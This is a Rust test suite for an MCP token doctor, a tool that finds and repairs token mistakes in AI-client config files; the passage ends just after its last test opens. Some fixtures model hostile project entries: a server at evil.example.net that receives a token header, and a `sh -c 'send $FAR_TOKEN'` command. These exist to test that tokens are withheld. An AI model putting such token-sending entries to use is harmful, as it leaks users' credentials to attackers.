//! `mcp-token doctor`: the command of a finding, executed as it stands, makes it go away; where one would lose something, or
//! show a token to a server that only a project names, there is none.

use std::fs;

use serde_json::{Value, json};

use crate::sandbox::{SECRET, mint_claims, stdout};
use crate::ward::{URL, Ward, filled, finding};

const CURSOR: &str = "~/.cursor/mcp.json";
const KIRO: &str = "~/.kiro/settings/mcp.json";
const INSTALL_CURSOR: &str = "mcp-token client install cursor --profile exai";

fn server(name: &str, entry: &str) -> String {
    filled(&format!(r#"{{"mcpServers":{{"{name}":{entry}}}}}"#))
}

fn with_token(value: &str) -> String {
    format!(r#"{{"url":"{URL}","headers":{{"Authorization":"{value}"}}}}"#)
}

#[test]
fn an_installation_mends_an_entry() {
    let ward = Ward::exai();
    let gone = mint_claims(r#"{"exp":1,"aud":"https://other.example.com"}"#);
    for (code, entry) in [
        ("literal_token", with_token("Bearer @OURS@")),
        ("expired_token", with_token("Bearer @DEAD@")),
        ("other_audience", with_token(&format!("Bearer {gone}"))),
        ("wrong_reference", with_token("Bearer ${EXAI_JWT_TOKEN}")),
        ("unset_variable", with_token("Bearer ${env:OLD_TOKEN}")),
        ("no_token", with_token("Bearer ")),
        ("no_token", format!(r#"{{"url":"{URL}"}}"#)),
        ("token_in_url", format!(r#"{{"url":"{URL}?token=@OURS@"}}"#)),
        ("unencrypted", with_token("Bearer ${env:HOME}").replace("https", "http")),
    ] {
        ward.file(CURSOR, server("exai", &entry));
        ward.mended(&[], code, INSTALL_CURSOR);
        let written: Value = serde_json::from_slice(&fs::read(ward.path(CURSOR)).unwrap()).unwrap();
        assert_eq!(written["mcpServers"]["exai"]["url"], URL, "{code}");
    }
    // What somebody set beside it stays.
    ward.file(CURSOR, server("exai", &with_token("@OURS@").replacen('{', r#"{"timeout":60,"#, 1)));
    ward.mended(&[], "literal_token", INSTALL_CURSOR);
    let written: Value = serde_json::from_slice(&fs::read(ward.path(CURSOR)).unwrap()).unwrap();
    assert_eq!(written["mcpServers"]["exai"]["timeout"], 60);
    // So does what stands in its URL beside the server.
    for tail in ["?tenant=a", "#x"] {
        let url = format!("{URL}{tail}");
        ward.file(CURSOR, server("exai", &with_token("@OURS@").replace(URL, &url)));
        ward.mended(&[], "literal_token", &format!("{INSTALL_CURSOR} --url '{url}'"));
        let written: Value = serde_json::from_slice(&fs::read(ward.path(CURSOR)).unwrap()).unwrap();
        assert_eq!(written["mcpServers"]["exai"]["url"], url);
    }
    // The entry keeps its name, whatever the profile is called.
    ward.file(CURSOR, server("other", &with_token("Bearer @OURS@")));
    ward.mended(&[], "literal_token", &format!("{INSTALL_CURSOR} --name other"));
}

#[test]
fn an_installation_mends_what_a_client_passes_over() {
    let ward = Ward::exai();
    let cline = "~/.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json";
    let desktop = "~/.config/Claude/claude_desktop_config.json";
    let plain = format!(r#"{{"url":"{URL}"}}"#);
    for (client, file) in [("cline", cline), ("qwen", "~/.qwen/settings.json"), ("claude-desktop", desktop)] {
        ward.file(file, server("exai", &plain));
        ward.mended(&[], "skipped", &format!("mcp-token client install {client} --profile exai"));
    }
    ward.file(
        "~/.codex/config.toml",
        filled(&format!("[mcp_servers.exai]\nurl = \"{URL}\"\nbearer_token = \"@OURS@\"\n")),
    );
    let codex = "mcp-token client install codex --profile exai";
    let before = ward.found(&[]);
    assert!(before.iter().any(|one| one.0 == "literal_token" && one.3 == codex), "{before:?}");
    ward.mended(&[], "skipped", codex);
    assert!(ward.found(&[]).iter().all(|one| one.0 != "literal_token"));
}

#[test]
fn both_old_places_of_vs_code_are_mended_by_the_new_one() {
    let entry = format!(r#"{{"type":"http","url":"{URL}"}}"#);
    let settings = "~/.config/Code/User/settings.json";
    for (file, content) in [
        (settings, format!(r#"{{"mcp":{{"servers":{{"exai":{entry}}}}}}}"#)),
        (
            settings,
            format!(
                r#"{{"mcp.servers":{{"exai":{entry}}}, // as it was written
        }}"#
            ),
        ),
        ("p/.vscode/settings.json", format!(r#"{{"mcp":{{"servers":{{"exai":{entry}}}}}}}"#)),
        ("p/.vscode/settings.json", format!(r#"{{"mcp.servers":{{"exai":{entry}}}}}"#)),
    ] {
        let ward = Ward::exai();
        ward.file("p/x", "");
        ward.file(file, content);
        let install = "mcp-token client install vscode --profile exai";
        if file == settings {
            ward.mended(&[], "dead_place", install);
        } else {
            assert_eq!(ward.found(&[]), [], "a project is looked at when it is named");
            ward.mended(&["--project", "p"], "dead_place", &format!("{install} --project ./p"));
        }
    }
    // A token in the old place lies there, though the server is in the new one.
    let ward = Ward::exai();
    ward.file(
        "~/.config/Code/User/mcp.json",
        r#"{"servers":{"exai":{"type":"http","url":"https://a.example"}}}"#,
    );
    ward.file(settings, filled(&format!(r#"{{"mcp":{{"servers":{{"exai":{}}}}}}}"#, with_token("@OURS@"))));
    let found = ward.found(&[]);
    assert_eq!(found.iter().map(|one| one.0.as_str()).collect::<Vec<_>>(), ["literal_token"], "{found:?}");
}

#[test]
fn an_unset_variable_is_exported() {
    let ward = Ward::exai();
    ward.file(CURSOR, server("x", &with_token("Bearer ${env:EXAI_JWT_TOKEN}")));
    let export = "export EXAI_JWT_TOKEN=$(mcp-token get exai)";
    let found = ward.found(&[]);
    assert_eq!(
        found.iter().map(|one| (one.0.as_str(), one.3.as_str())).collect::<Vec<_>>(),
        [("unset_variable", export)]
    );
    let assert = ward.shell(&format!("{export}\nmcp-token doctor --json")).code(0);
    assert_eq!(ward.found_by(&assert), []);
}

#[test]
fn a_token_that_is_not_kept_is_kept_before_a_variable_gets_it() {
    let ward = Ward::new();
    ward.keeper.set(&["b", "--secret-from", "none", "--store", "file", "--var", "B_TOKEN"]);
    ward.file(CURSOR, server("b", &with_token("Bearer ${env:B_TOKEN}")));
    let mend = |command: &str| {
        let found = ward.found(&[]);
        let unset = found.iter().find(|one| one.0 == "unset_variable").unwrap();
        assert_eq!(unset.3, command, "{found:?}");
    };
    let export = "export B_TOKEN=$(mcp-token get b)";
    let both = format!("mcp-token store b && {export}");
    mend(&both);
    let assert = ward.shell_with(&format!("{both}\nmcp-token doctor --json"), &filled("@LIVE@")).code(0);
    assert_eq!(ward.found_by(&assert), []);
    mend(export);
}

#[test]
fn a_variable_of_no_profile_is_asked_for_where_no_project_reads_it() {
    let ward = Ward::exai();
    let far = |value: &str| server("far", &with_token(value).replace(URL, "https://far.example/mcp"));
    ward.file(CURSOR, far("Bearer ${env:FAR_TOKEN}"));
    let told = |args: &[&str]| {
        let found = ward.findings(args);
        let is_it = |one: &&Value| one["message"].as_str().unwrap().contains("`far` refers to `FAR_TOKEN`");
        let unset = found.iter().find(is_it).unwrap();
        [&unset["command"], &unset["mend"]].map(|text| text.as_str().unwrap_or_default().to_owned())
    };
    let line = "export FAR_TOKEN=\"$(trap 'stty echo' INT; stty -echo; cat; stty echo)\"";
    let said =
        |wanted: &str| format!("enter {wanted}, then Enter and Ctrl-D, and start Cursor from the same shell");
    assert_eq!(told(&[]), [line, &said("its value")]);
    // Several lines, as a key has them.
    let then = "test \"$FAR_TOKEN\" = 'a  b\nc' && mcp-token doctor --json";
    let asked = ward.shell_with(&format!("{line}\n{}", then.replace("\\n", "\n")), "a  b\nc\n").code(0);
    assert_eq!(ward.found_by(&asked), []);
    let dead = filled("@DEAD@");
    let report = ward.doctor_with(&["--json"], |command| command.env("FAR_TOKEN", dead));
    let found = ward.findings_by(&report);
    assert_eq!((&found[0]["command"], &found[0]["mend"]), (&line.into(), &said("a token that lives").into()));
    // A project's server would get it too.
    let by_hand = ["", "set `FAR_TOKEN` before Cursor starts"];
    for other in [
        r#"{"url":"https://evil.example.net","headers":{"X":"${env:FAR_TOKEN}"}}"#,
        r#"{"command":"sh","args":["-c","send $FAR_TOKEN"]}"#,
    ] {
        ward.file("p/.cursor/mcp.json", server("ev", other));
        assert_eq!(told(&["--project", "p"]), by_hand, "{other}");
    }
    ward.file("p/.cursor/mcp.json", server("ev", r#"{"url":"https://evil.example.net"}"#));
    assert_eq!(told(&["--project", "p"])[0], line);
}

/// Nothing is kept for a profile that keeps its token nowhere.
#[test]
fn a_variable_of_a_profile_that_can_give_no_token_is_set_by_hand() {
    let ward = Ward::of(crate::keeper::Keeper::keyless_and_kept_nowhere());
    ward.keeper.run(&["get", "partner"]).code(2);
    ward.file(CURSOR, server("partner", &with_token("Bearer ${env:PARTNER_JWT_TOKEN}")));
    let found = ward.findings(&[]);
    let unset = found.iter().find(|one| one["code"] == "unset_variable").unwrap();
    assert_eq!(
        (&unset["command"], &unset["mend"]),
        (&Value::Null, &json!("set `PARTNER_JWT_TOKEN` before Cursor starts"))
    );
}

#[test]
fn a_variable_of_several_profiles_gets_the_token_of_the_entry_s() {
    let ward = Ward::exai();
    let second = "https://second.example/mcp";
    let shared = ["--secret-from", "name:exai", "--store", "none", "--var", "EXAI_JWT_TOKEN"];
    ward.keeper.set(&[&["a-second", "--url", second][..], &shared].concat());
    let entry =
        |name: &str, url: &str| server(name, &with_token("Bearer ${env:EXAI_JWT_TOKEN}").replace(URL, url));
    let export = |profile: &str| format!("export EXAI_JWT_TOKEN=$(mcp-token get {profile})");
    for (name, url, command) in [
        ("x", URL, export("exai")),
        ("exai", second, export("a-second")),
        ("a-second", URL, export("exai")),
        ("x", "https://third.example/mcp", String::new()),
    ] {
        ward.file(CURSOR, entry(name, url));
        let found = ward.found(&[]);
        let unset = found.iter().find(|one| one.0 == "unset_variable").unwrap();
        assert_eq!(unset.3, command, "{name} {url}: {found:?}");
    }
    ward.keeper.set(&[&["free"][..], &shared].concat());
    for (name, command) in [("free", export("free")), ("x", String::new())] {
        ward.file(CURSOR, format!(r#"{{"mcpServers":{{"{name}":{{"command":"y","env":{{"TOKEN":"${{env:EXAI_JWT_TOKEN}}"}}}}}}}}"#));
        let found = ward.found(&[]);
        let unset = found.iter().find(|one| one.0 == "unset_variable").unwrap();
        assert_eq!(unset.3, command, "{name}: {found:?}");
    }
}

#[test]
fn a_variable_in_two_headers_is_told_once() {
    let ward = Ward::exai();
    let headers = r#"{"Authorization":"Bearer ${env:EXAI_JWT_TOKEN}","X-Two":"${env:EXAI_JWT_TOKEN}","X-Three":"${env:B_TOKEN}"}"#;
    ward.file(CURSOR, server("exai", &format!(r#"{{"url":"{URL}","headers":{headers}}}"#)));
    let found = ward.found(&[]);
    let of = |name: &str| found.iter().filter(|one| one.2.contains(name)).count();
    assert_eq!((of("`EXAI_JWT_TOKEN`"), of("`B_TOKEN`"), found.len()), (1, 1, 2), "{found:?}");
}

/// What the entry says of another server is kept, and comes back with it.
#[test]
fn an_entry_is_led_to_the_server_of_its_profile() {
    let ward = Ward::exai();
    let far = |entry: &str| server("a", &entry.replace(URL, "https://far.example/mcp"));
    let line = format!("{INSTALL_CURSOR} --name a");
    let starts = |arguments: &str| format!(r#"{{"command":"mcp-token","args":[{arguments}]}}"#);
    let bridge = |package: &str, url: &str| {
        let shown = format!(r#""{url}","--header","Authorization:${{AUTH_HEADER}}""#);
        starts(&format!(r#""exec","exai","--header-var","AUTH_HEADER","--","npx","-y","{package}",{shown}"#))
    };
    let variable = with_token("Bearer ${env:EXAI_JWT_TOKEN}");
    for (entry, command) in
        [(&variable, line.clone()), (&bridge("mcp-remote@0.15.1", URL), format!("{line} --mode exec"))]
    {
        ward.file(CURSOR, far(entry));
        ward.mended(&[], "other_server", &command);
        let written: Value = serde_json::from_slice(&fs::read(ward.path(CURSOR)).unwrap()).unwrap();
        assert!(written["mcpServers"]["a"].to_string().contains(URL), "{written}");
        ward.shell("mcp-token client remove cursor a").code(0);
        assert_eq!(fs::read_to_string(ward.path(CURSOR)).unwrap(), far(entry));
    }
    let mend = "`https://mcp.example.com/mcp` into the entry, or the token of another profile";
    let literal = variable.replacen("}}", r#","X-Api-Key":"PRIVATE"}}"#, 1);
    let more = bridge("mcp-remote@0.15.1", URL).replacen("\"]", "\",\"--transport\",\"sse-only\"]", 1);
    let own = r#""auth":{"CLIENT_ID":"i","CLIENT_SECRET":"${env:ACME_SECRET}"}"#;
    let own_too = variable.replacen(r#""headers""#, &format!(r#"{own},"headers""#), 1);
    for entry in [&literal, &more, &own_too] {
        let file = ward.file(CURSOR, far(entry));
        ward.by_hand(&[], "other_server", mend, || fs::remove_file(file).unwrap());
    }
    let file = ward.file(CURSOR, server("exai", &literal.replace("https", "http")));
    ward.by_hand(&[], "other_server", mend, || fs::remove_file(file).unwrap());
    // Of a variable of two profiles nobody knows whose token is meant; a command says it.
    let second = ["second", "--secret-from", "name:exai", "--store", "none", "--var", "EXAI_JWT_TOKEN"];
    ward.keeper.set(&[&second[..], &["--url", "https://second.example/mcp"]].concat());
    let file = ward.file(CURSOR, far(&variable));
    ward.by_hand(&[], "other_server", mend, || fs::remove_file(file).unwrap());
    ward.file(CURSOR, far(&bridge("mcp-remote@0.15.1", URL)));
    ward.mended(&[], "other_server", &format!("{line} --mode exec"));
    ward.shell("mcp-token profile remove second").code(0);
    // One that could hold a key is named by its profile.
    ward.keeper.set(&["exai", "--url", "https://mcp.example.com/9f86d081884c7d659a2feaa0c55ad015"]);
    let file = ward.file(CURSOR, far(&literal));
    let named = "the URL of `exai` into the entry, or the token of another profile";
    ward.by_hand(&[], "other_server", named, || fs::remove_file(file).unwrap());
    ward.keeper.set(&["exai", "--url", URL]);
    // Nothing goes where a project wants it: it is led back as well.
    ward.file("p/.cursor/mcp.json", far(&variable));
    ward.mended(&["--project", "p"], "other_server", &format!("{line} --project ./p"));
    ward.shell("mcp-token client remove cursor a --project p").code(0);
    let file = ward.file("p/.cursor/mcp.json", far(&more));
    ward.by_hand(&["--project", "p"], "other_server", mend, || fs::remove_file(file).unwrap());
}

/// Gemini CLI fills in what is for the bridge.
#[test]
fn no_mode_is_asked_for_that_the_client_refuses() {
    let ward = Ward::exai();
    let file = "~/.gemini/settings.json";
    let install = "mcp-token client install gemini --profile exai --name a";
    for (package, url, code) in
        [("mcp-remote@0.15.1", "https://far.example/mcp", "other_server"), ("mcp-remote", URL, "unpinned")]
    {
        let args = [
            "exec",
            "exai",
            "--header-var",
            "AUTH_HEADER",
            "--",
            "npx",
            "-y",
            package,
            url,
            "--header",
            "Authorization:${AUTH_HEADER}",
        ];
        let args: Vec<_> = args.iter().map(|arg| format!("\"{arg}\"")).collect();
        ward.file(file, server("a", &format!(r#"{{"command":"mcp-token","args":[{}]}}"#, args.join(","))));
        ward.mended(&[], code, install);
    }
}

#[test]
fn an_entry_at_the_server_of_a_profile_gets_that_profile() {
    let ward = Ward::exai();
    ward.keeper.set(&[
        "far",
        "--secret-from",
        "name:exai",
        "--store",
        "none",
        "--url",
        "https://far.example/mcp",
    ]);
    let entry = with_token("Bearer ${env:EXAI_JWT_TOKEN}").replace(URL, "https://far.example/mcp");
    ward.file(CURSOR, server("a", &entry));
    ward.mended(&[], "other_server", "mcp-token client install cursor --profile far --name a");
    let written = fs::read_to_string(ward.path(CURSOR)).unwrap();
    assert!(
        written.contains("https://far.example/mcp") && written.contains("${env:FAR_JWT_TOKEN}"),
        "{written}"
    );
}

/// It stays one that this program starts, for the profile that it names.
#[test]
fn a_bridge_is_pinned_by_an_installation() {
    let ward = Ward::exai();
    ward.keeper.set(&["more", "--secret-from", "name:exai", "--store", "none", "--url", URL]);
    let bridge = |program: &str, profile: &str| {
        let more = r#""--header-var","AUTH_HEADER","--","npx","-y","mcp-remote@latest""#;
        let behind = format!(r#""{URL}","--header","Authorization:${{AUTH_HEADER}}""#);
        let args = format!(r#"["exec","{profile}",{more},{behind}]"#);
        server("exai", &format!(r#"{{"command":"{program}","args":{args}}}"#))
    };
    let install = |client: &str, more: &str| format!("mcp-token client install {client} --profile {more}");
    let desktop = "~/.config/Claude/claude_desktop_config.json";
    ward.program("npx", "exit 1");
    for (code, program) in [("unpinned", "mcp-token"), ("no_program", "/nowhere/mcp-token")] {
        for (file, content, command) in [
            (CURSOR, bridge(program, "exai"), install("cursor", "exai --mode exec")),
            (CURSOR, bridge(program, "more"), install("cursor", "more --name exai --mode exec")),
            (desktop, bridge(program, "exai"), install("claude-desktop", "exai")),
        ] {
            ward.file(file, content);
            ward.mended(&[], code, &command);
            assert_eq!(ward.found(&[]), [], "{command}");
            assert!(fs::read_to_string(ward.path(file)).unwrap().contains("\"mcp-remote@0."));
            fs::remove_file(ward.path(file)).unwrap();
        }
    }
    // No token for a server that only a project names: a profile without a URL goes with any that is the user's.
    ward.keeper.set(&["free", "--secret-from", "name:exai", "--store", "none"]);
    let free = bridge("mcp-token", "free").replace("mcp.example", "evil.example");
    let by_hand = "`mcp-remote@0.15.1` in its place";
    let file = ward.file("p/.cursor/mcp.json", &free);
    ward.by_hand(&["--project", "p"], "unpinned", by_hand, || fs::remove_file(file).unwrap());
    ward.file(CURSOR, free);
    let url = URL.replace("mcp.example", "evil.example");
    ward.mended(&[], "unpinned", &install("cursor", &format!("free --name exai --mode exec --url {url}")));
    // What the bridge is handed beside the token would be lost.
    let more = bridge("mcp-token", "exai").replacen("\"command\"", "\"env\":{\"A\":\"b\"},\"command\"", 1);
    let pinned = more.replace("@latest", "@0.15.1");
    ward.file(CURSOR, more);
    ward.by_hand(&[], "unpinned", by_hand, || drop(ward.file(CURSOR, pinned)));
    ward.file(CURSOR, bridge("mcp-token", "gone"));
    ward.mended(&[], "no_profile", &install("cursor", "exai --mode exec"));
}

/// A line that begins with `mcp-token` would not be found either.
#[test]
fn what_is_not_on_the_path_is_called_by_its_path() {
    let ward = Ward::exai();
    let codex = "~/.codex/config.toml";
    let helper = |program: &str| {
        format!(
            "[mcp_servers.exai]\nurl = \"{URL}\"\nhttp_headers_helper = \"{program} get exai -o headers-json\"\n"
        )
    };
    ward.program("codex", "echo codex-cli 0.169.0");
    ward.file(codex, helper("mcp-token"));
    let report = ward.doctor_with(&["--json"], |command| command.env("PATH", "/usr/bin:/bin"));
    let found = ward.found_by(&report);
    let program = env!("CARGO_BIN_EXE_mcp-token");
    let mend = format!("{program} client install codex --profile exai");
    let message = format!("{codex}: `exai` runs `mcp-token`, which is not there");
    assert_eq!(found, [finding("no_program", "warning", &message, &ward.keeper.plain(&mend))]);
    ward.shell(&mend).code(0);
    assert_eq!(ward.found(&[]), []);
}

/// Of what it starts only `client install` knows all; what it has not written, or would leave as it is, is mended by hand.
#[test]
fn a_server_that_was_started_by_a_program_which_moved_is_written_again() {
    let ward = Ward::exai();
    ward.program("server", "exit 0");
    let started = |more: &str| {
        ward.shell(&format!("mcp-token client install kiro --name calc --command server {more}")).code(0);
        let good = fs::read_to_string(ward.path(KIRO)).unwrap();
        let program = good.split('"').find(|text| text.ends_with("/mcp-token")).unwrap();
        let moved = good.replace(program, "/nowhere/mcp-token");
        ward.file(KIRO, &moved);
        (good, moved)
    };
    let by_hand = "install it where Kiro looks for programs, or name another";
    for kept in ["--secret-var K=exai", "--profile exai --mode exec"] {
        let (good, moved) = started(kept);
        ward.mended(&[], "no_program", "mcp-token client install");
        assert_eq!(fs::read_to_string(ward.path(KIRO)).unwrap(), good);
        // One that stands there under a name which nobody installed.
        let other = moved.replace("\"calc\"", "\"other\"");
        ward.file(KIRO, &other);
        let kept = if kept.starts_with("--secret") { "--name other" } else { "--profile exai --name other" };
        let secret = if kept.starts_with("--name") { " --secret-var 'K=exai'" } else { "" };
        let line = format!("mcp-token client install kiro {kept} --mode exec --command server{secret}");
        ward.mended(&[], "no_program", &line);
        assert_eq!(fs::read_to_string(ward.path(KIRO)).unwrap(), good.replace("\"calc\"", "\"other\""));
        ward.shell("mcp-token client remove kiro other").code(0);
        ward.file(KIRO, good);
        ward.shell("mcp-token client remove kiro calc").code(0);
    }
    // Two clients that read it are told the same.
    ward.program("kiro", "");
    ward.shell("mcp-token client install kiro-cli --name calc --command server --secret-var K=exai").code(0);
    let good = fs::read_to_string(ward.path(KIRO)).unwrap();
    let program = good.split('"').find(|text| text.ends_with("/mcp-token")).unwrap();
    ward.file(KIRO, good.replace(program, "/nowhere/mcp-token"));
    assert_eq!(ward.found(&[]).iter().filter(|one| one.3 == "mcp-token client install").count(), 2);
    ward.shell("mcp-token client install").code(0);
    assert_eq!(ward.found(&[]), []);
    ward.shell("mcp-token client remove kiro-cli calc").code(0);
    // It would not be written again without its profile, or with what somebody has added.
    let (good, moved) = started("--profile exai --mode exec");
    let added =
        |text: &str| text.replace("\"server\"]", "\"server\", \"--token\", \"PRIVATE-0123456789abcdef\"]");
    ward.file(KIRO, added(&moved));
    ward.by_hand(&[], "no_program", by_hand, || drop(ward.file(KIRO, added(&good))));
    ward.file(KIRO, moved);
    ward.shell("mcp-token profile remove exai").code(0);
    ward.by_hand(&[], "no_program", by_hand, || drop(ward.file(KIRO, good)));
    ward.shell("mcp-token client remove kiro calc").code(0);
    // One with a literal is left as it is.
    let (good, _) = started("--secret-var K=exai --env API_KEY=PRIVATE-0123456789abcdef");
    ward.by_hand(&[], "no_program", by_hand, || drop(ward.file(KIRO, good)));
}

/// No entry shows such a token: there is none to install.
#[test]
fn a_profile_that_is_shown_in_no_header_is_not_installed() {
    let ward = Ward::exai();
    let entry = |value: &str| server("exai", &with_token(value));
    ward.file(CURSOR, entry("Bearer @DEAD@"));
    ward.keeper.set(&["exai", "--header", "none"]);
    let by_hand = "`${env:NAME}` in its place, and a new token in that variable";
    ward.by_hand(&[], "expired_token", by_hand, || drop(ward.file(CURSOR, entry(""))));
}

/// The header that was written here goes with what somebody put into it.
#[test]
fn a_literal_in_the_header_of_an_earlier_profile_goes() {
    for (code, value) in [("expired_token", "Bearer @DEAD@"), ("wrong_reference", "Bearer ${FOO}")] {
        let ward = Ward::exai();
        ward.shell(INSTALL_CURSOR).code(0);
        ward.keeper.set(&["exai", "--header", "X-Api-Key"]);
        let good = fs::read_to_string(ward.path(CURSOR)).unwrap();
        ward.file(CURSOR, filled(&good.replace("Bearer ${env:EXAI_JWT_TOKEN}", value)));
        ward.mended(&[], code, INSTALL_CURSOR);
        let entry: Value = serde_json::from_str(&fs::read_to_string(ward.path(CURSOR)).unwrap()).unwrap();
        let headers = json!({"X-Api-Key": "${env:EXAI_JWT_TOKEN}"});
        assert_eq!(entry["mcpServers"]["exai"]["headers"], headers);
    }
}

/// An installation leaves a header of somebody in an entry of ours: it would say that all is there.
#[test]
fn what_somebody_has_added_to_ours_is_mended_by_hand() {
    let ward = Ward::exai();
    ward.shell(INSTALL_CURSOR).code(0);
    let good = fs::read_to_string(ward.path(CURSOR)).unwrap();
    for (code, value, by_hand) in [
        ("wrong_reference", "${FOO}", "`${env:FOO}` in its place"),
        ("expired_token", "Bearer @DEAD@", "`${env:NAME}` in its place, and a new token in that variable"),
    ] {
        let added = format!("\"headers\": {{ \"X-Api-Key\": \"{value}\",");
        ward.file(CURSOR, filled(&good.replace("\"headers\": {", &added)));
        ward.by_hand(&[], code, by_hand, || drop(ward.file(CURSOR, &good)));
    }
}

#[test]
fn a_helper_that_gives_nothing_is_mended_without_claude() {
    let ward = Ward::exai();
    let helper =
        |line: &str| server("exai", &format!(r#"{{"type":"http","url":"{URL}","headersHelper":"{line}"}}"#));
    for (line, code) in [
        ("/nowhere/helper", "no_program"),
        ("mcp-token get gone -o headers-json", "no_profile"),
        ("mcp-token get exai -o header", "no_headers"),
    ] {
        ward.file("~/.claude.json", helper(line));
        ward.mended(&[], code, "mcp-token client install claude-code --profile exai");
        assert_eq!(ward.found(&[]), [], "{line}");
    }
}

#[test]
fn a_project_s_entry_is_mended_in_the_project() {
    let ward = Ward::exai();
    ward.file(
        "my app/.mcp.json",
        server("exai", &format!(r#"{{"type":"http",{}"#, &with_token("Bearer @OURS@")[1..])),
    );
    let found = ward.found(&["--project", "my app"]);
    assert_eq!(found[0].3, "mcp-token client install claude-code --profile exai --project './my app'");
    let work = ward.path("").display().to_string();
    ward.shell(&found[0].3.replace("./", &work)).code(0);
    assert_eq!(ward.found(&["--project", "my app"]), []);
}

#[test]
fn no_command_loses_what_nothing_else_holds() {
    let ward = Ward::exai();
    ward.keeper.set(&["free", "--secret-from", "name:exai", "--store", "none"]);
    let headers = r#""headers":{"Authorization":"Bearer PRIVATE""#;
    let has_none = |file: &str, content: &str, args: &[&str]| {
        ward.file(file, content);
        let found = ward.found(args);
        assert!(!found.is_empty() && found.iter().all(|one| one.3.is_empty()), "{content}: {found:?}");
        fs::remove_file(ward.path(file)).unwrap();
    };
    for entry in [
        // What another entry would not have.
        format!(r#"{{"url":"{URL}",{headers},"X-Session-Token":"1"}}}}"#),
        format!(r#"{{"url":"{URL}",{headers},"X-Session-Token":"${{env:HOME}}"}}}}"#),
        format!(r#"{{"url":"{URL}",{headers}}},"env":{{"A":"b"}}}}"#),
        // What an installation would leave there.
        format!(r#"{{"url":"{URL}","auth":{{"CLIENT_SECRET":"PRIVATE"}}}}"#),
        format!(r#"{{"url":"{URL}",{headers}}},"disabled":true}}"#),
        format!(r#"{{"type":"sse","url":"{URL}",{headers}}}}}"#),
        r#"{"command":"npx","env":{"TOKEN":"PRIVATE","B":"${env:HOME}"}}"#.to_owned(),
    ] {
        has_none(CURSOR, &server("exai", &entry), &[]);
    }
    // A name that no flag takes.
    has_none(CURSOR, &server("a b", &with_token("Bearer PRIVATE")), &[]);
    has_none(CURSOR, &server("--x", &with_token("Bearer PRIVATE")), &[]);
    // No token for a server that only a project names: `free` has no URL of its own.
    let elsewhere = with_token("Bearer PRIVATE").replace("mcp.example", "evil.example");
    has_none("p/.cursor/mcp.json", &server("free", &elsewhere), &["--project", "p"]);
    // A file that cannot be edited, and one that has the entry twice.
    ward.file(CURSOR, server("exai", &with_token("Bearer PRIVATE")));
    fs::hard_link(ward.path(CURSOR), ward.path("~/link")).unwrap();
    let found = ward.found(&[]);
    assert_eq!((found[0].0.as_str(), found[0].3.as_str()), ("literal_token", ""), "{found:?}");
    fs::remove_file(ward.path("~/link")).unwrap();
    let twice = format!(r#"{{"mcpServers":{{"exai":{0},"exai":{0}}}}}"#, with_token("Bearer PRIVATE"));
    has_none(CURSOR, &twice, &[]);
}

#[test]
fn a_server_of_the_user_s_gets_the_profile_of_its_name() {
    let ward = Ward::exai();
    ward.keeper.set(&["free", "--secret-from", "name:exai", "--store", "none"]);
    let url = "https://free.example.com/mcp?tenant=a&b";
    ward.file(
        CURSOR,
        server("free", &format!(r#"{{"url":"{url}","headers":{{"Authorization":"Bearer @DEAD@"}}}}"#)),
    );
    ward.mended(
        &[],
        "expired_token",
        &format!("mcp-token client install cursor --profile free --url '{url}'"),
    );
    let written: Value = serde_json::from_slice(&fs::read(ward.path(CURSOR)).unwrap()).unwrap();
    assert_eq!(written["mcpServers"]["free"]["url"], json!(url));
}

#[test]
fn a_mode_is_mended_by_chmod() {
    let ward = Ward::exai();
    ward.file(CURSOR, server("x", &with_token("Bearer PRIVATE").replace("mcp.example", "a.example")));
    ward.set_mode(CURSOR, 0o644);
    ward.mended(&[], "readable_by_others", "chmod 600 ~/.cursor/mcp.json");
    // Who holds no token may be read.
    ward.file(CURSOR, server("x", r#"{"url":"https://a.example"}"#));
    ward.set_mode(CURSOR, 0o644);
    let text = stdout(&ward.doctor(&[]).code(0));
    assert!(text.contains("  ok    cursor  ~/.cursor/mcp.json: `x` is shown no token\n"), "{text}");
}

#[test]
fn where_there_are_several_profiles_a_line_says_which() {
    let ward = Ward::exai();
    let zed = "~/.config/zed/settings.json";
    let entry = |url: &str| {
        let headers = r#"{"X-Session-Token":"1","Authorization":"Bearer PRIVATE"}"#;
        format!(r#"{{"context_servers":{{"a":{{"url":"{url}","headers":{headers}}}}}}}"#)
    };
    let mend = |url: &str| {
        ward.file(zed, entry(url));
        ward.findings(&[])[0]["mend"].clone()
    };
    assert_eq!(mend(URL), "in its place what `mcp-token client print zed` prints");
    // Also where the only one may be for another server.
    let other = || mend("https://other.example/mcp");
    let named = "in its place what `mcp-token client print zed --profile NAME` prints";
    assert_eq!(other(), named);
    ward.keeper.set(&["second", "--secret-from", "name:exai", "--store", "none"]);
    assert_eq!(mend(URL), "in its place what `mcp-token client print zed --profile exai` prints");
    assert_eq!(other(), named);
}

/// A profile has no scheme of others, and no URL that a client fills in.
#[test]
fn what_no_profile_can_say_is_not_made_into_one() {
    let ward = Ward::exai();
    let told = |name: &str, url: &str, value: &str| {
        ward.file(CURSOR, server(name, &with_token(value).replace(URL, url)));
        let found = ward.findings(&[]);
        found.iter().find(|one| one["code"] == "literal_token").unwrap().clone()
    };
    let by_hand = "`${env:NAME}` in its place, and the token in that variable";
    let far = "https://far.example/mcp";
    for (value, made) in [
        ("@LIVE@", Some(" --header Authorization && mcp-token store u")),
        ("PRIVATE", Some(" --header Authorization && mcp-token store u --opaque")),
        ("Bearer @LIVE@", Some(" && mcp-token store u")),
        ("Basic PRIVATE", Some(" --header basic && mcp-token store u --opaque")),
        ("Token PRIVATE", None),
        ("Token @LIVE@", None),
        ("@LIVE@ @LIVE@", None),
        ("Bearer PRIVATE b", None),
    ] {
        let found = told("u", far, value);
        let command = made.map(|made| {
            let set = format!("mcp-token profile set u --secret-from none --url {far}");
            json!(format!("{set}{made} && mcp-token client install cursor --profile u"))
        });
        let mend = if command.is_some() { Value::Null } else { json!(by_hand) };
        assert_eq!((&found["command"], &found["mend"]), (&command.unwrap_or_default(), &mend), "{value}");
    }
    for (name, url) in [("u", far), ("exai", URL)] {
        for reference in ["${env:TEAM}", "${TEAM}", "{env:T}", "$HOME"] {
            let found = told(name, &format!("{url}?team={reference}"), "Bearer PRIVATE");
            assert_eq!((&found["command"], &found["mend"]), (&Value::Null, &json!(by_hand)), "{reference}");
        }
        assert!(told(name, &format!("{url}?team=a"), "Bearer PRIVATE")["command"].is_string());
    }
}

/// A file of the user's says what the user wants; that of a project may name anything.
#[test]
fn what_an_entry_names_is_made() {
    let ward = Ward::exai();
